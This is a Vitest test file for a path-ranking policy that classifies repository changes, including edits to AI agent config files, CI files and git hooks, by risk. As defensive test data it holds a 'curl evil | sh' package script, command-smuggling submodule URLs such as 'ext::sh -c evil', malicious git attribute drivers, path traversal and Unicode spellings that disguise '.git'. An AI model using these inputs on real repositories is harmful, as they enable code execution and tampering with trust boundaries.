import { describe, expect, it } from 'vitest';
import { classOf, contentMatters, foldName, type PathChange, rankPath } from '../../../src/core/policy/paths.ts';

const NO_CONTENT = { link: null, oldText: null, newText: null };

function rankOf(path: string, change: Partial<PathChange> = {}) {
  return rankPath({ path, oldMode: null, newMode: '100644', ...NO_CONTENT, ...change }).rank;
}

function rankOfLink(path: string, target: string, reaches: string | null = 'somewhere') {
  return rankPath({ path, oldMode: null, newMode: '120000', ...NO_CONTENT, link: { target, reaches } });
}

describe('ordinary paths', () => {
  it.each([
    'src/a.ts',
    'README.md',
    'docs/agents/guide.md',
    'gitignore',
    '.gitignore',
    'src/.gitattributes.txt',
    'github/workflows/x.yml',
    'my.claude/x',
    'lock',
    'locks/a.ts',
    'Makefile.md',
    'src/cicd.ts',
    'naïve café/日本.txt',
    '-rf',
    'a b\nc',
    'package.json5',
  ])('%j', (path) => {
    expect(rankOf(path)).toBe('ordinary');
  });

  it('has no reason to give', () => {
    expect(rankPath({ path: 'a', oldMode: '100644', newMode: '100644', ...NO_CONTENT }).why).toBe('');
  });
});

describe('trust-boundary paths, at any depth and in any spelling', () => {
  it.each([
    '.claude/settings.json',
    'packages/x/.claude/settings.json',
    '.CLAUDE/settings.json',
    '.claude',
    '.mcp.json',
    '.codex/config.toml',
    '.gemini/settings.json',
    'opencode.json',
    'opencode.jsonc',
    '.opencode/agent/x.md',
    '.pancode/config.yaml',
    '.cursor/rules/a.mdc',
    '.github/copilot-instructions.md',
    'AGENTS.md',
    'AGENTS.override.md',
    'fixtures/bare/HEAD',
    'sub/CLAUDE.local.md',
    'sub/Agents.md',
    'CLAUDE.md',
    'GEMINI.md',
    '.vscode/tasks.json',
    '.idea/workspace.xml',
    '.devcontainer/devcontainer.json',
    'my.code-workspace',
    '.husky/pre-commit',
    '.githooks/pre-push',
    '.pre-commit-config.yaml',
    'lefthook.yml',
    'lefthook.yaml',
    '.gitmodules',
    '.envrc',
    'sub/.envrc',
    '.tool-versions',
    '.mise.toml',
    '.github/workflows/ci.yml',
    '.GitHub/Workflows/ci.yml',
    '.gitlab-ci.yml',
    '.circleci/config.yml',
    'Jenkinsfile',
    '.envrc.',
    '.vscode /tasks.json',
    '.hus\u200bky/pre-commit',
  ])('%j', (path) => {
    expect(rankOf(path)).toBe('trust-boundary');
    expect(classOf(rankOf(path))).toBe('protected');
  });

  it('counts removal and change as well as creation', () => {
    expect(rankOf('AGENTS.md', { oldMode: '100644', newMode: null })).toBe('trust-boundary');
    expect(rankOf('AGENTS.md', { oldMode: '100644' })).toBe('trust-boundary');
  });
});

describe('protected paths', () => {
  it.each([
    'package-lock.json',
    'sub/yarn.lock',
    'Cargo.lock',
    'pnpm-lock.yaml',
    'bun.lockb',
    'npm-shrinkwrap.json',
    'go.sum',
    'Makefile',
    'GNUmakefile',
    '.github/dependabot.yml',
    '.ci/run',
    'ci/build.sh',
    '.travis.yml',
    'azure-pipelines.yml',
  ])('%j', (path) => {
    expect(rankOf(path)).toBe('protected');
  });

  it('asks for a file that becomes executable, not for one that is', () => {
    expect(rankOf('run.sh', { newMode: '100755' })).toBe('protected');
    expect(rankOf('run.sh', { oldMode: '100644', newMode: '100755' })).toBe('protected');
    expect(rankOf('run.sh', { oldMode: '100755', newMode: '100755' })).toBe('ordinary');
    expect(rankOf('run.sh', { oldMode: '100755', newMode: '100644' })).toBe('ordinary');
  });

  it('keeps the stricter of two rules', () => {
    expect(rankOf('.github/workflows/run.lock', { newMode: '100755' })).toBe('trust-boundary');
  });
});

describe('content that decides', () => {
  const change = (path: string, oldText: string | null, newText: string | null) =>
    rankOf(path, {
      oldMode: oldText === null ? null : '100644',
      newMode: newText === null ? null : '100644',
      oldText,
      newText,
    });

  it('is asked for where it does', () => {
    for (const path of ['package.json', 'a/package.json', '.gitattributes', 'x/.gitmodules', '.GitAttributes'])
      expect(contentMatters(path)).toBe(true);
    for (const path of ['package.json/x', 'a.gitattributes', 'src/a.ts']) expect(contentMatters(path)).toBe(false);
  });

  it('lets a package change its dependencies, and asks when its scripts change', () => {
    const before = '{"scripts":{"test":"vitest"},"dependencies":{}}';
    expect(change('package.json', before, '{"dependencies":{"a":"1"},"scripts": {"test": "vitest"}}')).toBe('ordinary');
    expect(change('package.json', before, '{"scripts":{"test":"curl evil | sh"}}')).toBe('protected');
    expect(change('package.json', before, null)).toBe('protected');
    expect(change('package.json', null, '{"scripts":{"postinstall":"x"}}')).toBe('protected');
    expect(change('package.json', null, '{"name":"x"}')).toBe('ordinary');
  });

  it('counts any change of a package that is no JSON', () => {
    expect(change('package.json', '{"scripts":{}}', '{"scripts":{}')).toBe('protected');
    expect(change('package.json', '{', '{{')).toBe('protected');
  });

  it('asks when .gitattributes sets a driver, not when it sets line ends', () => {
    expect(change('.gitattributes', null, '*.txt text eol=lf\n')).toBe('ordinary');
    expect(change('.gitattributes', null, '*.txt filter=evil\n')).toBe('trust-boundary');
    expect(change('.gitattributes', '*.txt filter=lfs\n', null)).toBe('trust-boundary');
    expect(change('.gitattributes', '*.a diff=x\n', '*.a diff=x\n*.b text\n')).toBe('ordinary');
    expect(change('.gitattributes', null, '*.b merge=evil')).toBe('trust-boundary');
    expect(change('.gitattributes', null, '  [attr]m filter=evil')).toBe('trust-boundary');
  });

  it('never applies a submodule whose address runs a command', () => {
    const submodule = (line: string) => change('.gitmodules', null, `[submodule "x"]\n\tpath = x\n\t${line}\n`);
    expect(submodule('url = https://example.org/x.git')).toBe('trust-boundary');
    expect(submodule('url = ext::sh -c evil')).toBe('forbidden');
    expect(submodule('url = "--upload-pack=evil"')).toBe('forbidden');
    expect(submodule('URL=-x')).toBe('forbidden');
    expect(submodule('url = "e\\\nxt::sh"')).toBe('forbidden');
    expect(change('.gitmodules', null, '[submodule "x"] path = -x')).toBe('forbidden');
  });
});

describe('forbidden paths', () => {
  it.each([
    '.git/config',
    '.git',
    'a/.git/hooks/post-commit',
    '.GIT/config',
    '.git./config',
    '.git /config',
    '.g\u200cit/config',
    'GIT~1/config',
    'git~2',
    'a\\.git\\config',
    '..\\x',
    '/etc/passwd',
    'a//b',
    './a',
    'a/../../b',
    'a:b',
    'x.txt::$DATA',
    'bad\ufffdname',
    '',
  ])('%j', (path) => {
    const ranked = rankPath({ path, oldMode: null, newMode: '100644', ...NO_CONTENT });
    expect(ranked.rank).toBe('forbidden');
    expect(ranked.why).not.toBe('');
  });

  it.each(['160000', '100600', '040000'])('mode %s', (newMode) => {
    expect(rankOf('a', { newMode })).toBe('forbidden');
  });

  it('keeps a name with a colon that is there already', () => {
    expect(rankOf('a:b', { oldMode: '100644' })).toBe('ordinary');
  });
});

describe('symbolic links', () => {
  it('are ordinary while they stay in the tree', () => {
    expect(rankOfLink('docs/a', '../src/a.ts').rank).toBe('ordinary');
    expect(rankOfLink('a/b/c', './d').rank).toBe('ordinary');
    expect(rankOfLink('a', 'a..b').rank).toBe('ordinary');
  });

  it.each([
    ['a', '/etc/passwd', null],
    ['a', 'C:/x', null],
    ['a', '\\\\server\\x', null],
    ['a', '../x', null],
    ['a/b', '../../x', null],
    ['a/b', '../c/../../../x', null],
    ['a/b', 'c\\..\\..\\..\\x', null],
    ['a', '', null],
    ['a', '.git/hooks', '.git/hooks'],
    ['a/b', '../.GIT/config', '.GIT/config'],
    ['a', 'b/config', '.git/config'],
    ['a', 'b/c', null],
    ['.gitattributes', 'x', 'x'],
    ['a/.gitignore', 'x', 'x'],
    ['.gitmodules', 'x', 'x'],
  ])('%j to %j is forbidden', (path, target, reaches) => {
    expect(rankOfLink(path, target, reaches).rank).toBe('forbidden');
  });

  it('with an unknown target is forbidden', () => {
    expect(rankOf('a', { newMode: '120000' })).toBe('forbidden');
  });

  it('still have the class of their name', () => {
    expect(rankOfLink('CLAUDE.md', 'README.md').rank).toBe('trust-boundary');
  });
});

describe('foldName', () => {
  it('makes one of all spellings of a name', () => {
    expect(foldName('Cafe\u0301. ')).toBe(foldName('CAF\u00c9'));
    expect(foldName('.g\u200b\u202e\ufeffit')).toBe('.git');
  });
});
